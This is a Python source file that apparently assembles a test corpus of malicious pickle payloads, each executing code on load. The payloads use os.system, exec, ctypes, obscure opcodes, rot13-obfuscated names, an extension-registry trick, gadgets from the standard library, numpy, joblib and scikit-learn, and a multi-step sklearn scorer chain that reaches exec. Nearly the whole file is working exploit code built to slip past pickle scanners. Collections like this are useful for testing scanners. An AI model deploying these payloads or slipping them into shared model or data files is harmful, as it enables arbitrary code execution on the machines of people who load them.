"""Pickles that run code while they load, each by another call."""

import codecs
import pickle

from assembler import (
    CODE,
    COMMAND,
    Code,
    Payload,
    build,
    call,
    name,
    new,
    put,
    whole,
)

EXEC = name("builtins:exec")
TOUCH = whole(call("os:system", COMMAND))
OS = call("importlib:import_module", "os")

# --- pickles that run code while they load: name, what it does, instructions -

DIRECT = [
    ("os.system", "a shell command", call("os:system", COMMAND)),
    ("posix.system", "a shell command", call("posix:system", COMMAND)),
    ("exec", "Python code as a text", call(EXEC, CODE)),
    (
        "subprocess.run",
        "another program",
        call("subprocess:run", ["touch", "PWNED"]),
    ),
    ("open", "creates a file", call("builtins:open", "PWNED", "w")),
    (
        "Path.touch",
        "creates a file, by a name with a dot",
        call("pathlib:Path.touch", call("pathlib:Path", "PWNED")),
    ),
    ("sqlite3.connect", "creates a file", call("sqlite3:connect", "PWNED")),
    (
        "ctypes",
        "the C library's own system()",
        call(
            call(
                call("operator:attrgetter", "system"), call("ctypes:CDLL", None)
            ),
            COMMAND.encode(),
        ),
    ),
]
SPACE = "types:SimpleNamespace"
OPCODES = [
    (
        "NEWOBJ",
        "tuple(map(exec, ...)), no REDUCE",
        new("builtins:tuple", new("builtins:map", EXEC, [CODE])),
    ),
    (
        "BUILD",
        "gives an object a __setstate__ of its own",
        build(build(new(SPACE), {"__setstate__": name("os:system")}), COMMAND),
    ),
    (
        "computed name",
        "the name is decoded while loading",
        call(
            Code(
                put("os")
                + call("codecs:decode", "flfgrz", "rot13")
                + pickle.STACK_GLOBAL
            ),
            COMMAND,
        ),
    ),
    (
        "extension registry",
        "registers os.system as number 66 first",
        Code(
            call("copyreg:add_extension", "os", "system", 66)
            + pickle.POP
            + call(Code(pickle.EXT1 + bytes([66])), COMMAND)
        ),
    ),
]
DETOURS = [
    (
        "getattr",
        "getattr(__import__('os'), 'system')",
        call(
            call(
                "builtins:getattr", call("builtins:__import__", "os"), "system"
            ),
            COMMAND,
        ),
    ),
    (
        "attrgetter",
        "operator.attrgetter('system')(os)",
        call(call(call("operator:attrgetter", "system"), OS), COMMAND),
    ),
    (
        "methodcaller",
        "operator.methodcaller('system', ...)(os)",
        call(call("operator:methodcaller", "system", COMMAND), OS),
    ),
    (
        "partial",
        "functools.partial(os.system, ...)()",
        call(call("functools:partial", name("os:system"), COMMAND)),
    ),
    (
        "resolve_name",
        "pkgutil.resolve_name('os:system')",
        call(call("pkgutil:resolve_name", "os:system"), COMMAND),
    ),
    (
        "coded text",
        "exec of a text in rot13",
        call(
            EXEC, call("codecs:decode", codecs.encode(CODE, "rot13"), "rot13")
        ),
    ),
    (
        "nested pickle",
        "pickle.loads of a second pickle",
        call("pickle:loads", TOUCH),
    ),
]
INTERPRETER = "code:InteractiveInterpreter"
LIBRARY = [
    ("timeit", "runs its text", call("timeit:timeit", "0", CODE)),
    ("cProfile", "runs its text", call("cProfile:run", CODE)),
    (
        "bdb",
        "the debugger runs its text",
        call("bdb:Bdb.run", call("bdb:Bdb"), CODE),
    ),
    (
        "code",
        "the interactive interpreter runs its text",
        call(f"{INTERPRETER}.runsource", call(INTERPRETER), CODE),
    ),
    (
        "pydoc",
        "the help viewer starts a shell",
        call("pydoc:pipepager", "", COMMAND),
    ),
    (
        "spawnv",
        "multiprocessing starts a program",
        call(
            "multiprocessing.util:spawnv_passfds",
            b"/bin/sh",
            [b"sh", b"-c", COMMAND.encode()],
            [1],
        ),
    ),
]
SCIENTIFIC = [
    ("numpy measure", "runs its text", call("numpy.testing:measure", CODE)),
    (
        "numpy f2py",
        "evaluates its text",
        call("numpy.f2py.crackfortran:myeval", CODE),
    ),
    ("numpy savetxt", "creates a file", call("numpy:savetxt", "PWNED", [1])),
    ("joblib dump", "creates a file", call("joblib:dump", 1, "PWNED")),
    (
        "joblib loads",
        "joblib's own name for pickle.loads",
        call("joblib.externals.loky.backend.reduction:loads", TOUCH),
    ),
    (
        "sklearn, dotted",
        "os.system, through a module that imports os",
        call("sklearn.datasets._base:os.system", COMMAND),
    ),
    (
        "sklearn, no dots",
        "attrgetter and import_module, as scikit-learn imports them",
        call(
            call(
                call("sklearn.feature_selection._base:attrgetter", "system"),
                call("sklearn.utils.discovery:import_module", "os"),
            ),
            COMMAND,
        ),
    ),
    (
        "sklearn, builtins",
        "exec, out of a module's __builtins__",
        call(
            call(
                call("sklearn.feature_extraction.text:itemgetter", "exec"),
                name("sklearn.base:__builtins__"),
            ),
            CODE,
        ),
    ),
]


def corpus():
    """Yield the Payloads."""
    families = {
        "direct call": DIRECT,
        "other instruction": OPCODES,
        "detour": DETOURS,
        "standard library": LIBRARY,
        "scientific stack": SCIENTIFIC,
    }
    for family, payloads in families.items():
        for title, about, body in payloads:
            yield Payload(title, family, about, whole(body))
    yield from searches()


def searches():
    """Yield a Payload that names five parts of an ordinary search."""
    scores = name("sklearn.metrics._classification:accuracy_score")
    splits = name("sklearn.model_selection._split:StratifiedKFold")
    array = name("numpy:ndarray")

    def scorer(function, method, **options):
        """A scorer calls this method of what it is given."""
        kind = "sklearn.metrics._scorer:_Scorer"
        return call(kind, function, 1, options, method)

    def model(number):
        """Return how to make a model, and how to get the same again."""
        kind = "sklearn.linear_model._logistic:LogisticRegression"
        made = build(new(kind), {"__sklearn_tags__": splits})
        again = pickle.BINGET + bytes([number])
        return Code(made + pickle.MEMOIZE), Code(again)

    first, second = model(0), model(1)
    one = {"y_true": (1,)}
    reach = scorer(scorer(array, "__setstate__"), "__getattribute__", **one)
    steps = [
        build(splits, (None, {"estimator_type": "regressor"})),
        build(scores, {"__sklearn_tags__": splits}),
        call(reach, scores, "__globals__", first[0]),
        call(reach, first[1], "__builtins__", second[0]),
        call(scorer(array, "exec"), second[1], CODE, (1,)),
    ]
    about = "a scorer calls what the file names, up to exec"
    yield Payload("scorer", "detour", about, whole(put(steps)))
